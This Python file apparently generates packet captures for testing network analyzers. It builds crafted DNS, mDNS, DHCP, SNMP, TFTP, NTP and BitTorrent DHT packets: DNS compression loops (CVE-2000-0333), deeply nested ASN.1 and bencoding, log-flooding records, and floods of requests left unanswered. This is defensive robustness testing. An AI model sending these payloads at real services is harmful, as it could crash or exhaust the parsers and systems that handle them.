# SPDX-License-Identifier: GPL-2.0-or-later
"""Attacks on protocols over UDP: DNS, mDNS, DHCP, SNMP, TFTP, NTP, BitTorrent's DHT."""
import struct

from attacks_mail import dialogue
from attacks_packets import queries
from catalogue import ber, ber_int, entry, host, rounds
from pcapgen import dns_answer, dns_name, dns_query


def head(ident, flags, questions=0, answers=0, more=0):
    return struct.pack(">HHHHHH", ident & 0xffff, flags, questions, answers, 0, more)


def rr(kind, data, name=b"\xc0\x0c", ttl=300):
    return name + struct.pack(">HHIH", kind, 1, ttl, len(data)) + data


QUESTION = dns_name("www.example.com") + b"\0\1\0\1"


def answers(cap, size, count, message):
    """Answers with their queries; the twin's are ordinary."""
    for i in rounds(cap, size, count):
        client = host(i % 200)
        cap.udp(client, 5000 + i // 200, "192.168.0.1", 53,
                dns_query(i & 0xffff, "www.example.com"))
        cap.udp("192.168.0.1", 53, client, 5000 + i // 200, message(i) if size is None else
                dns_answer(i & 0xffff, "www.example.com", ["10.0.0.7"]))


@entry("DNS: names that point to names that point to names", "CVE-2000-0333, compression loops",
       short=True, proto="dns")
def dns_chains(cap, size):
    labels = b"\1a\0" + b"".join(b"\1a" + struct.pack(">H", 0xc000 | 12 + (0 if i == 0 else 3 + (
        i - 1) * 4)) for i in range(250))
    body = labels + b"\0\1\0\1"
    end = struct.pack(">H", 0xc000 | 12 + len(labels) - 4)
    answers(cap, size, 400, lambda i: head(i, 0x8180, 1, 25) + end + b"\0\1\0\1" +
            rr(5, end, end) * 25 + body)


@entry("DNS: names that point to themselves", "CVE-2000-0333, compression loops", short=True, proto="dns")
def dns_loops(cap, size):
    answers(cap, size, 700, lambda i: head(i, 0x8180, 1, 80) + b"\xc0\x0c\0\1\0\1" +
            rr(5, b"\xc0\x0c") * 80)


@entry("DNS: long names, named again by two bytes", "log amplification: compressed names",
       short=True, proto="dns")
def dns_names(cap, size):
    long_name = b"".join(b"\x3f" + bytes([97 + i]) * 63 for i in range(3)) + b"\x3b" + \
        b"d" * 59 + b"\0"
    answers(cap, size, 600, lambda i: head(i, 0x8180, 1, 80) + long_name + b"\0\1\0\1" +
            rr(5, b"\xc0\x0c") * 80)


@entry("DNS: many answers of few bytes", "log amplification: answers", short=True, proto="dns")
def dns_answers(cap, size):
    answers(cap, size, 600, lambda i: head(i, 0x8180, 1, 85) + QUESTION + rr(1, b"abcd") * 85)


@entry("DNS: the root as an answer, again and again", "log amplification: answers", proto="dns")
def dns_root_answers(cap, size):
    answers(cap, size, 600, lambda i: head(i, 0x8180, 1, 110) + QUESTION +
            rr(99, b"", b"\0") * 110)


@entry("DNS: a text of many strings", "log amplification: TXT", short=True, proto="dns")
def dns_text(cap, size):
    answers(cap, size, 600, lambda i: head(i, 0x8180, 1, 1) + QUESTION +
            rr(16, b"\1\1" * 600))


@entry("DNS: bytes that cannot be printed", "log amplification: escapes", proto="dns", short=True)
def dns_escapes(cap, size):
    answers(cap, size, 600, lambda i: head(i, 0x8180, 1, 5) + QUESTION +
            rr(16, b"\xf0" + b"\1" * 240) * 5)


@entry("DNS: many questions", "log amplification: queries", proto="dns")
def dns_questions(cap, size):
    if size is not None:
        queries(cap, size)
        return
    for i in range(800):
        cap.udp(host(i % 200), 5000, "192.168.0.1", 53, head(i, 0x100, 200) +
                b"\1a\0\0\1\0\1" * 200)


@entry("DNS: queries without an answer", "transactions that stay open", proto="dns", short=True)
def dns_queries(cap, size):
    for i in rounds(cap, size, 12000):
        if size is None:
            cap.udp("10.0.0.1", 5000, "192.168.0.1", 53, dns_query(i & 0xffff, "a.b"))
        else:
            cap.udp(host(i % 200), 5000, "192.168.0.1", 53, dns_query(i & 0xffff, "a.b"))


@entry("DNS: queries over TCP without an answer", "transactions that stay open", proto="dns",
       short=True)
def dns_tcp_queries(cap, size):
    query, reply = dns_query(1, "a.b"), dns_answer(1, "a.b", ["10.0.0.1"])
    dialogue(cap, size, 53, [], [(0, b"".join(struct.pack(">HH", len(query), i & 0xffff) +
                                              query[2:] for i in range(35000)))], [
        (0, struct.pack(">H", len(query)) + query), (1, struct.pack(">H", len(reply)) + reply)])


@entry("DNS: OPT records with options of no bytes", "loops over options", proto="dns")
def dns_options(cap, size):
    answers(cap, size, 600, lambda i: head(i, 0x8180, 1, 0, 1) + QUESTION +
            rr(41, b"\0\x0c\0\0" * 330, b"\0"))


@entry("mDNS: many records in answers", "log amplification: answers", proto="mdns", short=True)
def mdns_answers(cap, size):
    for i in rounds(cap, size, 600):
        name = dns_name("host.local")
        many = 80 if size is None else 1
        cap.udp(host(i % 200), 5353, "224.0.0.251", 5353, head(0, 0x8400, 0, many) +
                name + struct.pack(">HHIH", 1, 1, 9, 4) + b"abcd" +
                rr(1, b"abcd") * (many - 1))


def dhcp(i, options):
    return struct.pack(">BBBBIHH4s4s4s4s16s192s", 1, 1, 6, 0, i, 0, 0, b"", b"", b"", b"",
                       struct.pack(">IH", i, 1), b"") + b"\x63\x82\x53\x63" + options + b"\xff"


@entry("DHCP: options without end", "loops over options", short=True, proto="dhcp")
def dhcp_options(cap, size):
    for i in rounds(cap, size, 600):
        cap.udp("0.0.0.0", 68, "255.255.255.255", 67, dhcp(
            i, b"\x35\1\3" + (b"\x37\0\x06\4abcd" * 140 if size is None else b"\x37\1\1")))


@entry("DHCP: a client for each packet", "transactions that stay open", proto="dhcp")
def dhcp_clients(cap, size):
    for i in rounds(cap, size, 3000):
        cap.udp("0.0.0.0", 68, "255.255.255.255", 67, dhcp(i if size is None else i % 10,
                                                           b"\x35\1\1"))


def snmp(i, variables, community=b"public"):
    return ber(0x30, ber_int(1), ber(4, community), ber(0xa0, ber_int(i), ber_int(0), ber_int(0),
                                                        ber(0x30, variables)))


VARIABLE = ber(0x30, ber(6, b"\x2b\6\1\2\1\1\1\0"), ber(5))


@entry("SNMP: variables without end", "log amplification: variables", short=True, proto="snmp")
def snmp_variables(cap, size):
    tiny = ber(0x30, ber(6, b"\x2b"), ber(5))
    for i in rounds(cap, size, 600):
        cap.udp("10.0.0.1" if size is None else host(i % 200), 5000, "192.168.0.1", 161,
                snmp(i, tiny * 190 if size is None else VARIABLE))


@entry("SNMP: object ids of a thousand parts", "log amplification: object ids", proto="snmp")
def snmp_objects(cap, size):
    wide = ber(0x30, ber(6, b"\x2b" + b"\x8f\xff\xff\xff\x7f" * 270), ber(5))
    for i in rounds(cap, size, 600):
        cap.udp("10.0.0.1" if size is None else host(i % 200), 5000, "192.168.0.1", 161,
                snmp(i, wide if size is None else VARIABLE))


@entry("SNMP: requests without an answer", "transactions that stay open", proto="snmp",
       short=True)
def snmp_requests(cap, size):
    for i in rounds(cap, size, 10000):
        cap.udp("10.0.0.1" if size is None else host(i % 200), 5000, "192.168.0.1", 161,
                snmp(i, VARIABLE))


@entry("SNMP: ASN.1 in ASN.1", "PROTOS 2002, nesting of ASN.1", short=True, proto="snmp")
def snmp_nesting(cap, size):
    deep = b""
    while len(deep) < 1300:
        deep = ber(0x30, deep)
    for i in rounds(cap, size, 600):
        cap.udp(host(i % 200), 5000, "192.168.0.1", 161, snmp(
            i, deep if size is None else VARIABLE))


@entry("TFTP: requests without an answer", "expectations and transactions that stay open",
       short=True, proto="tftp")
def tftp_requests(cap, size):
    for i in rounds(cap, size, 12000):
        cap.udp("10.0.0.1" if size is None else host(i % 200), 5000 + (i % 1000 if size is None
                                                                       else 0),
                "192.168.0.1", 69, b"\0\1a%d\0octet\0" % i)


@entry("TFTP: requests of one flow, none answered", "transactions that stay open", short=True,
       proto="tftp")
def tftp_one_flow(cap, size):
    for i in rounds(cap, size, 20000):
        cap.udp("10.0.0.1" if size is None else host(i % 2000), 5000, "192.168.0.1", 69,
                b"\0\1a%d\0octet\0" % i)


@entry("NTP: requests without an answer", "transactions that stay open", proto="ntp")
def ntp_requests(cap, size):
    for i in rounds(cap, size, 8000):
        cap.udp("10.0.0.1" if size is None else host(i % 200), 123, "192.168.0.1", 123,
                b"\x23\0\6\xec" + b"\0" * 36 + struct.pack(">Q", i))


def dht(body):
    return b"d1:ad2:id20:abcdefghij0123456789" + body + b"e1:q9:find_node1:t2:aa1:y1:qe"


@entry("BitTorrent DHT: lists in lists", "nesting of bencoding", short=True, proto="bittorrent-dht")
def dht_nesting(cap, size):
    for i in rounds(cap, size, 700):
        cap.udp(host(i % 200), 6881, "192.168.0.1", 6881, dht(
            b"1:x" + b"l" * 650 + b"e" * 650 if size is None else
            b"6:target20:mnopqrstuvwxyz123456"))


@entry("BitTorrent DHT: nodes and peers without end", "log amplification: nodes", short=True,
       proto="bittorrent-dht")
def dht_values(cap, size):
    for i in rounds(cap, size, 700):
        answer = b"d1:rd2:id20:abcdefghij01234567895:token8:aoeusnth6:valuesl" + b"6:axje.u" * (
            160 if size is None else 2) + b"ee1:t2:aa1:y1:re"
        cap.udp(host(i % 200), 6881, "192.168.0.1", 6881, dht(b"6:target20:mnopqrstuvwxyz123456"))
        cap.udp("192.168.0.1", 6881, host(i % 200), 6881, answer)


@entry("BitTorrent DHT: keys without end", "loops over dictionaries", proto="bittorrent-dht")
def dht_keys(cap, size):
    for i in rounds(cap, size, 700):
        cap.udp(host(i % 200), 6881, "192.168.0.1", 6881, dht(
            b"0:0:" * 320 if size is None else b"6:target20:mnopqrstuvwxyz123456"))
